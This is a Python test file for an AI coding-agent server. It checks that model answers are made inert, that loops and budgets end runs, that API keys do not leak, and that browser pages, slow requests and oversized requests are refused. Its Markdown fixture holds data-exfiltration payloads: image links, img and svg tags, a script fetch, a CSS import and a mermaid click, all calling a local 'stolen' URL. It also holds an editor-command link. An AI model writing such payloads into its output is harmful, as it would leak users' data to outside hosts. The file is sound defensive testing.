"""Cases 29, 36 and 37, 39 to 42: what an answer would load, loops, and strangers at the door."""

from __future__ import annotations

import asyncio
import json
import re
import socket
import subprocess
import sys
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus

from abuse.abuse_client import Client
from abuse.abuse_models import PLAN, reply
from abuse.abuse_world import HONEST, World
from redline.core.framing import Framer, frame
from redline.core.text.markdown import inert

SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*:")
EVIL = "http://127.0.0.1:{port}/?d=stolen"
MARKDOWN = """\
Here is what `honest` does, at honest.py:1. A `vec![1]` and a List<int> are plain.

![chart]({evil}) ![ref][r] [click here]({evil}) [open](command:workbench.action.terminal.new)
<img src="{evil}"> <IMG SRC='//127.0.0.1:{port}/x'> <a href={evil}>x</a> <x y="{evil}">
<svg><image href="{evil}"/></svg> [file](file://host/share) [enc](ht&#116;p://x/y)

[r]: {evil}

- ```
  code
  ```
![after a list]({evil})

\\`![not code]({evil})` and ` ![x]({evil})

```mermaid
graph TD; A-->B; click A "{evil}"
```

<style>@import url({evil});</style><script>fetch("{evil}")</script>
"""


def loads(markdown: str) -> list[str]:
    """What a reader of this Markdown would load, or lead elsewhere under another name."""
    found = []
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown)
    for token in tokens:
        for each in (token, *(token.children or ())):
            source = str(each.attrs.get("src", "")) + str(each.attrs.get("href", ""))
            address = "//" in source or SCHEME.match(source) is not None
            if each.type == "image" or (
                each.type == "link_open" and each.info != "auto" and address
            ):
                found.append(f"{each.type} {source}")
            if each.type in ("html_inline", "html_block"):
                found += _loaded(each.content)
            if each.type == "fence" and "mermaid" in each.info:
                found.append(each.info)
    return found


def _loaded(html: str) -> list[str]:
    """The tags of HTML that name an address elsewhere, or load what they hold."""
    found: list[str] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in ("style", "script") or any("//" in (value or "") for _, value in attrs):
                found.append(f"<{tag} {attrs}>")

    Tags().feed(html)
    return found


def test_29_an_answer_loads_nothing(world: World) -> None:
    port = world.ears.port
    text = MARKDOWN.replace("{evil}", EVIL.format(port=port)).replace("{port}", str(port))
    assert len(loads(text)) > 10
    client = world.open(world.models.play([reply(PLAN), reply(("answer", {"markdown": text}))]))
    uri = (world.project / HONEST).as_uri()
    run = client.command("agent.explain", uri=uri, instruction="explain honest")["run"]
    assert client.ended(run)["state"] == "answered"
    answer = client.wait(lambda m: m.get("method") == "redline/answer", "the answer")["params"]
    assert loads(answer["markdown"]) == []
    assert "Here is what `honest` does, at honest.py:1." in answer["markdown"]
    assert "List<int>" in answer["markdown"]
    assert EVIL.format(port=port) in answer["markdown"], "an address is shown, not hidden"
    assert answer["places"]


PIECES = st.sampled_from((
    "![", "[", "]", "](", ")", "<", ">", "`", "```\n", "\n", "\n\n", "- ", "> ", "    ", "\\", '"',
    "http://x/y", "//x/y", "a", "img src=", "a href=", "[r]: ", "][r]", "mermaid", "!", " ",
    "<img src=http://x>", "![a](http://x)", "&#58;", "command:x", "|", "# ", "<!--", "-->",
))  # fmt: skip


@given(st.lists(PIECES, max_size=24).map("".join))
@settings(deadline=None, max_examples=400)
def test_29_no_markdown_loads_anything(text: str) -> None:
    made = inert(text)
    assert loads(made) == []
    if "mermaid" not in text:
        assert made.replace(" ", "") == text.replace(" ", ""), "more than spaces was changed"


def test_36_a_loop_of_calls_ends(world: World) -> None:
    """A, B, A, B: the same two calls for ever."""
    one = reply(("read_file", {"path": HONEST}))
    other = reply(("outline", {"path": HONEST}))
    ended = world.play([reply(PLAN), *([one, other] * 60)])
    assert ended["state"] == "failed"
    assert "repeated" in ended["message"] or "circl" in ended["message"], ended
    assert len(world.models.requests) <= 12
    world.editor.close()
    ended = world.obey(("read_file", {"path": HONEST}))
    world.honest(ended)


def test_36_a_loop_of_ever_new_calls_ends_with_the_budget(world: World) -> None:
    calls = [reply(("search", {"query": f"word {at}"})) for at in range(60)]
    ended = world.play([reply(PLAN), *calls], **{"budget.model_calls": 9})
    assert (ended["state"], ended["outcome"]) == ("failed", "budget"), ended
    assert len(world.models.requests) <= 10


def test_37_a_model_that_fails_is_not_asked_for_ever(world: World) -> None:
    for fault in ("status 500", "status 429 retry-after 0", "cut-connection"):
        ended = world.play([f"> text\nfault: {fault}"] * 40)
        assert ended["state"] == "failed", ended
        assert len(world.models.requests) <= 6, fault
        world.editor.close()
    ended = world.obey(("read_file", {"path": HONEST}))
    world.honest(ended)


KEY = "sk-" + "canary0123456789abcdefghijklmnopqrstuv"


def test_39_a_key_that_was_revoked_opens_nothing_and_is_told_to_nobody(world: World) -> None:
    ended = world.play(["> text\nfault: status 401"] * 9, api_key=KEY)
    assert ended["state"] == "failed"
    assert len(world.models.requests) == 1, "a refusal is final"
    run = str(world.editor.command("redline.show", run=ended["run"]))
    assert KEY not in json.dumps(ended) + run + world.running.log() + world.models.sent
    held = [
        p for p in world.running.home.rglob("*") if p.is_file() and KEY.encode() in p.read_bytes()
    ]
    assert held == []


@pytest.mark.parametrize("how", ["--tcp", "--ws"])
def test_39_without_tokens_nothing_but_loopback_is_served(world: World, how: str) -> None:
    for host in ("0.0.0.0", "[::]", "192.0.2.1", "example.com"):
        done = world.redline("serve", how, f"{host}:0")
        assert done.returncode == 2, done.stderr
        assert b"loopback" in done.stderr


def test_40_a_page_in_a_browser_gets_no_connection(world: World) -> None:
    """Over WebSocket by its Origin; over TCP, where a page can send a request with any body."""
    initialize = {"jsonrpc": "2.0", "id": 1, "method": "initialize"}
    initialize["params"] = {"processId": None, "rootUri": None, "capabilities": {}}
    body = json.dumps(initialize).encode()
    for path in ("/", "/a:b", "/a:b%20", "/:"):
        head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/plain;charset=UTF-8"
        with socket.create_connection(("127.0.0.1", world.running.port), 10) as page:
            page.sendall(f"{head}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
            page.settimeout(10)
            said = _all(page)
        assert b"bad-header" in said and b"serverInfo" not in said
    asyncio.run(_websocket(world))
    client = world.open("")
    assert client.command("redline.proposals") == []


async def _websocket(world: World) -> None:
    command = (sys.executable, "-m", "redline.main", "serve", "--ws", "127.0.0.1:0")
    server = await asyncio.create_subprocess_exec(
        *command, stderr=subprocess.PIPE, env=world.running.environment
    )
    try:
        assert server.stderr is not None
        async with asyncio.timeout(20):
            port = int((await server.stderr.readline()).split(b",")[-1].strip(b" )\n"))
        for origin in ("https://example.com", "http://localhost", "null", "vscode-webview://x"):
            with pytest.raises(InvalidStatus) as refused:
                async with connect(f"ws://127.0.0.1:{port}", origin=origin):  # type: ignore[arg-type]
                    pass
            assert refused.value.response.status_code == 403
        async with connect(f"ws://127.0.0.1:{port}") as socket_:
            await socket_.send(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "shutdown"}))
            assert json.loads(await socket_.recv())["id"] == 1
    finally:
        server.kill()
        await server.wait()


def test_41_a_second_initialize_changes_nothing(world: World) -> None:
    client = world.open("")
    params = {"processId": None, "rootUri": world.outside.as_uri(), "capabilities": {}}
    assert client.answer("initialize", params)["error"]["code"] == -32600
    uri = (world.outside / "victim.py").as_uri()
    asked = {"command": "agent.explain", "arguments": [{"uri": uri, "instruction": "explain"}]}
    assert (
        "none of the workspace folders"
        in (client.answer("workspace/executeCommand", asked)["error"]["message"])
    )
    assert client.command("redline.proposals") == []


def test_42_slow_and_boundless_requests_hold_nobody_up(world: World) -> None:
    port = world.running.port
    slow = [socket.create_connection(("127.0.0.1", port)) for _ in range(60)]
    try:
        for each in slow:
            each.sendall(b"Content-Le")
        for length in (10**11, 2**63, 10**30):
            with socket.create_connection(("127.0.0.1", port), 10) as huge:
                huge.sendall(b"Content-Length: %d\r\n\r\n{" % length)
                assert b"too-large" in _all(huge)
        with socket.create_connection(("127.0.0.1", port), 10) as endless:
            endless.sendall(b"X: " + b"y" * 20_000)
            assert b"bad-header" in _all(endless)
        began = time.monotonic()
        client = Client(port)
        client.initialize(world.project, {})
        assert client.command("redline.proposals") == []
        client.close()
        assert time.monotonic() - began < 10
    finally:
        for each in slow:
            each.close()
    world.ready()


def _all(from_: socket.socket) -> bytes:
    """What is said until the connection is closed."""
    said = b""
    while True:
        try:
            piece = from_.recv(65536)
        except ConnectionError:
            return said
        if not piece:
            return said
        said += piece


@given(st.binary(max_size=200), st.sampled_from([b"POST /a:b HTTP/1.1", b"GET /:", b"a b: c"]))
@settings(deadline=None, max_examples=50)
def test_40_no_request_line_is_a_header(rest: bytes, line: bytes) -> None:
    framer = Framer(1 << 20)
    found = framer.feed(line + b"\r\n" + frame(rest))
    assert [type(each).__name__ for each in found] == ["FrameProblem"]
